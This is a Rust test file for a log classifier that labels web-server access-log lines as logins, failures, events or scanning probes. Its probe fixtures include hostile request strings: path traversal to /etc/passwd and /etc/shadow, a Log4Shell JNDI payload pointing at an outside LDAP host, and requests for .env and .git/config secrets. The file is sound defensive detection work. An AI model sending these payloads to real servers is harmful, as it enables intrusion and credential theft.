//! nginx/Apache access lines: logins by method, path and status; probes; everything else events.

use super::recognise;
use super::text_tests::check;
use crate::logs::classify::{extract_fields, LogType};

const S: LogType = LogType::LoginSuccess;
const F: LogType = LogType::LoginFailure;
const E: LogType = LogType::NetworkEvent;
const P: LogType = LogType::NetworkScan;

/// A combined-format line from 198.51.100.23 for `request` answered `status`.
fn combined(request: &str, status: u16) -> String {
    format!(
        r#"198.51.100.23 - - [07/Dec/2026:10:01:02 +0000] "{request}" {status} 512 "-" "Mozilla/5.0 (X11; Linux x86_64)""#
    )
}

#[test]
fn requests_table() {
    #[rustfmt::skip]
    let cases: &[(&str, u16, LogType)] = &[
        ("POST /login HTTP/1.1", 401, F),
        ("POST /login HTTP/1.1", 403, F),
        ("POST /login?next=%2Fdash HTTP/1.1", 302, S),
        ("POST /api/login HTTP/2.0", 200, S),
        ("POST /api/v2/auth/token HTTP/1.1", 200, S),
        ("POST /auth/realms/corp/protocol/openid-connect/token HTTP/1.1", 401, F),
        ("POST /oauth/token HTTP/1.1", 401, F),
        ("POST /oauth2/token HTTP/1.1", 200, S),
        ("POST /users/sign_in HTTP/1.1", 303, S),
        ("POST /user/login HTTP/1.1", 403, F),
        ("PUT /api/session HTTP/1.1", 201, S),
        ("POST /sessions HTTP/1.1", 401, F),
        ("POST /signin HTTP/1.1", 204, S),
        ("POST /wp-login.php HTTP/1.1", 200, F), // WordPress re-renders the form on failure
        ("POST /wp-login.php HTTP/1.1", 302, S),
        ("POST /wp-login.php HTTP/1.1", 404, P), // not WordPress: a probe
        ("POST /xmlrpc.php HTTP/1.1", 200, E),
        ("POST /xmlrpc.php HTTP/1.1", 403, F),
        // Not a login attempt: other statuses, other methods, other paths.
        ("POST /login HTTP/1.1", 429, E),
        ("POST /login HTTP/1.1", 500, E),
        ("GET /login HTTP/1.1", 200, E),
        ("GET /portfolio HTTP/1.1", 200, E),
        ("GET /portfolio/auth-guide HTTP/1.1", 200, E),
        ("GET /reports/export HTTP/1.1", 200, E),
        ("POST /api/v1/orders HTTP/1.1", 201, E),
        ("POST /blog/login-tips HTTP/1.1", 200, E),
        ("POST /author HTTP/1.1", 200, E),
        ("GET /wp-admin/ HTTP/1.1", 200, E), // a WordPress site
        ("GET /.well-known/security.txt HTTP/1.1", 200, E),
        ("-", 408, E),
        // Probes, whatever the status.
        ("GET /.env HTTP/1.1", 404, P),
        ("GET /.git/config HTTP/1.1", 200, P),
        ("GET /wp-admin/setup-config.php HTTP/1.1", 404, P),
        ("GET /wordpress/wp-includes/wlwmanifest.xml HTTP/1.1", 404, P),
        ("GET /phpMyAdmin/index.php HTTP/1.1", 404, P),
        ("GET /cgi-bin/luci/;stok=/locale HTTP/1.1", 404, P),
        ("GET /static/../../etc/passwd HTTP/1.1", 400, P),
        ("GET /download?file=..%2f..%2fetc%2fshadow HTTP/1.1", 400, P),
        ("GET /actuator/env HTTP/1.1", 404, P),
        ("GET /server-status HTTP/1.1", 403, P),
        ("POST /HNAP1/ HTTP/1.1", 404, P),
        ("POST /boaform/admin/formLogin HTTP/1.1", 404, P),
        ("GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404, P),
        ("GET /?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1", 200, P),
        ("CONNECT www.example.com:443 HTTP/1.1", 405, P),
        ("GET http://example.org/ HTTP/1.1", 400, P),
        ("\\x16\\x03\\x01\\x00\\xa3\\x01\\x00\\x00\\x9f\\x03\\x03", 400, P),
        ("SSH-2.0-Go", 400, P),
    ];
    for &(request, status, t) in cases {
        let line = combined(request, status);
        let r = check(&line, "access_log", t, None, Some("198.51.100.23"));
        assert_eq!(r.status, Some(status), "{line}");
    }
}

#[test]
fn fields_of_common_combined_and_vhost_lines() {
    let common = r#"192.0.2.8 - - [30/Jan/2026:09:15:00 +0000] "GET /health HTTP/1.1" 200 2"#;
    let r = check(common, "access_log", E, None, Some("192.0.2.8"));
    assert_eq!(
        (r.method.as_deref(), r.resource.as_deref()),
        (Some("GET"), Some("/health"))
    );

    let user = r#"2001:db8::4 - frank.o@corp.example [30/Jan/2026:09:15:00 +0000] "POST /api/login?x=1 HTTP/1.1" 401 0 "-" "curl/8.5""#;
    let r = check(
        user,
        "access_log",
        F,
        Some("frank.o@corp.example"),
        Some("2001:db8::4"),
    );
    assert_eq!(r.resource.as_deref(), Some("/api/login"));

    let vhost = r#"shop.example.com:443 ::ffff:203.0.113.4 - - [30/Jan/2026:09:15:00 +0000] "GET /cart HTTP/2.0" 200 91 "https://shop.example.com/" "Mozilla/5.0""#;
    check(vhost, "access_log", E, None, Some("203.0.113.4"));

    let escaped =
        r#"192.0.2.9 - - [30/Jan/2026:09:15:00 +0000] "GET /a\"b HTTP/1.1" 404 0 "-" "x""#;
    check(escaped, "access_log", E, None, Some("192.0.2.9"));

    let via_syslog = format!(
        "Dec  7 10:01:02 web-1 nginx: {}",
        combined("GET / HTTP/1.1", 200)
    );
    check(&via_syslog, "access_log", E, None, Some("198.51.100.23"));
}

#[test]
fn non_access_lines_are_not_read_as_such() {
    for line in [
        r#"a b c d e [30/Jan/2026:09:15:00 +0000] "GET / HTTP/1.1" 200 2"#,
        r#"192.0.2.8 - - [not a time] "GET / HTTP/1.1" 200 2"#,
        r#"192.0.2.8 - - [30/Jan/2026:09:15:00 +0000] "GET / HTTP/1.1" 2000 2"#,
        r#"192.0.2.8 - - [30/Jan/2026:09:15:00 +0000] "GET / HTTP/1.1" 200 lots"#,
        r#"192.0.2.8 - - [30/Jan/2026:09:15:00 +0000] "GET / HTTP/1.1 200 2"#,
        "[INFO] user login ok",
    ] {
        assert_eq!(recognise(line, None), None, "{line}");
    }
}

#[test]
fn the_keyword_rules_never_see_an_access_line() {
    // §4 alone reads `login` as a success, `port` as a scan, `auth` as a login.
    for (request, status) in [
        ("GET /login HTTP/1.1", 401),
        ("GET /docs/port-forwarding HTTP/1.1", 200),
        ("GET /oauth/authorize HTTP/1.1", 200),
    ] {
        let f = extract_fields(&combined(request, status), None);
        assert_eq!(f.classify(), (E, None), "{request}");
    }
    // Inside a JSON `log` field (Docker, Fluent Bit) too.
    let line =
        serde_json::json!({"log": combined("POST /login HTTP/1.1", 401), "stream": "stdout"});
    let f = extract_fields(&line.to_string(), None);
    assert_eq!(f.classify(), (F, None));
    assert_eq!(f.resource.as_deref(), Some("/login"));
}
